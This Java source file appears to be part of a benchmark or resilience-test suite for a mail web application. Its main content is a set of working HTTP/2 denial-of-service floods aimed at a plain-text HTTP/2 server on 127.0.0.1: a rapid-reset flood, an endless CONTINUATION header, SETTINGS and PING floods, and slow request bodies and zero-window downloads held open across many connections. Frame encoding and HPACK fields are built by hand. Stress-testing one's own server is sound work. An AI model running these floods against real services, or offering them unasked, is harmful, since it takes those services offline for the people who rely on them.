package dev.mailchute.bench;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Floods of HTTP/2, for a server that speaks it in plain text: many requests on one connection, of which none is paid for. */
final class Http2Attacks {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RESET = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

    private Http2Attacks() {}

    static List<Attack> all() {
        return List.of(
                new Attack(
                        "h2-reset",
                        "HTTP/2: requests reset at once, without end",
                        onslaught -> flood(
                                onslaught,
                                stream -> join(
                                        frame(
                                                HEADERS,
                                                END_HEADERS | END_STREAM,
                                                stream,
                                                head("GET", "/mail-center/login")),
                                        frame(RESET, 0, stream, new byte[] {0, 0, 0, 8})))),
                new Attack(
                        "h2-continuation",
                        "HTTP/2: a head that goes on without end",
                        onslaught -> flood(
                                onslaught,
                                stream -> stream == 1
                                        ? frame(HEADERS, 0, 1, head("GET", "/mail-center/login"))
                                        : frame(CONTINUATION, 0, 1, field("x-" + stream, "a".repeat(8000))))),
                new Attack(
                        "h2-settings",
                        "HTTP/2: settings without end",
                        onslaught -> flood(onslaught, stream -> frame(SETTINGS, 0, 0, new byte[0]))),
                new Attack(
                        "h2-ping",
                        "HTTP/2: pings without end, no answer read",
                        onslaught -> flood(onslaught, stream -> frame(PING, 0, 0, new byte[8]))),
                new Attack(
                        "h2-bodies",
                        "HTTP/2: 20 connections of 100 bodies that do not end",
                        onslaught -> streams(onslaught, 20, "POST", "/mail-center/login")),
                new Attack(
                        "h2-window",
                        "HTTP/2: 20 connections of 100 downloads into a closed window",
                        onslaught ->
                                streams(onslaught, 20, "GET", onslaught.page().letter("large") + "/message.eml")));
    }

    private interface Frames {
        byte[] of(int stream);
    }

    private static byte[] join(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] content) {
        int length = content.length;
        return join(
                new byte[] {(byte) (length >> 16), (byte) (length >> 8), (byte) length, (byte) type, (byte) flags},
                new byte[] {(byte) (stream >> 24), (byte) (stream >> 16), (byte) (stream >> 8), (byte) stream},
                content);
    }

    /** A field as HPACK has it that is neither indexed nor compressed. */
    private static byte[] field(String name, String value) {
        return join(new byte[] {0}, text(name), text(value));
    }

    private static byte[] text(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int left = bytes.length;
        if (left < 127) {
            out.write(left);
        } else {
            out.write(127);
            for (left -= 127; left >= 128; left >>= 7) {
                out.write(left % 128 + 128);
            }
            out.write(left);
        }
        out.writeBytes(bytes);
        return out.toByteArray();
    }

    private static byte[] head(String method, String path) {
        return join(
                field(":method", method),
                field(":scheme", "http"),
                field(":path", path),
                field(":authority", "127.0.0.1"));
    }

    /** Says so on four connections without reading, until the time is over or the page has enough. */
    private static void flood(Onslaught onslaught, Frames frames) throws InterruptedException {
        onslaught.again(4, number -> {
            try (Wire wire = onslaught.wire()) {
                wire.send(join(PREFACE, frame(SETTINGS, 0, 0, new byte[0])));
                int stream = 1;
                Thread patience = closing(onslaught, wire);
                while (!onslaught.isOver() && stream < 2_000_000) {
                    ByteArrayOutputStream many = new ByteArrayOutputStream();
                    for (int i = 0; i < 100; i++, stream += 2) {
                        many.writeBytes(frames.of(stream));
                    }
                    if (!wire.send(many.toByteArray())) {
                        break;
                    }
                }
                boolean enough = !onslaught.isOver();
                patience.interrupt();
                return enough ? "closed by the page" : "taken to the end";
            } catch (IOException e) {
                return "refused";
            }
        });
    }

    /** A write that nobody reads would last for ever. */
    private static Thread closing(Onslaught onslaught, Wire wire) {
        Thread patience = new Thread(
                () -> {
                    try {
                        onslaught.rest();
                        wire.close();
                    } catch (InterruptedException e) {
                        Thread.currentThread().interrupt();
                    }
                },
                "patience");
        patience.setDaemon(true);
        patience.start();
        return patience;
    }

    /** Many requests on few connections. With a window of no bytes no answer can be given, and bodies do not end. */
    private static void streams(Onslaught onslaught, int connections, String method, String path)
            throws InterruptedException {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes(PREFACE);
        all.writeBytes(frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 0, 0}));
        boolean body = method.equals("POST");
        byte[] head = join(head(method, path), field("cookie", onslaught.page().viewer()));
        byte[] announced =
                join(field("content-type", "application/x-www-form-urlencoded"), field("content-length", "1000000"));
        for (int i = 0; i < 100; i++) {
            int stream = 2 * i + 1;
            all.writeBytes(
                    frame(HEADERS, END_HEADERS | (body ? 0 : END_STREAM), stream, body ? join(head, announced) : head));
            if (body) {
                all.writeBytes(frame(DATA, 0, stream, "name=".getBytes(StandardCharsets.US_ASCII)));
            }
        }
        String said = new String(all.toByteArray(), StandardCharsets.ISO_8859_1);
        List<Wire> held = onslaught.hold(connections, said);
        onslaught.rest();
        onslaught.letGo(held);
    }
}
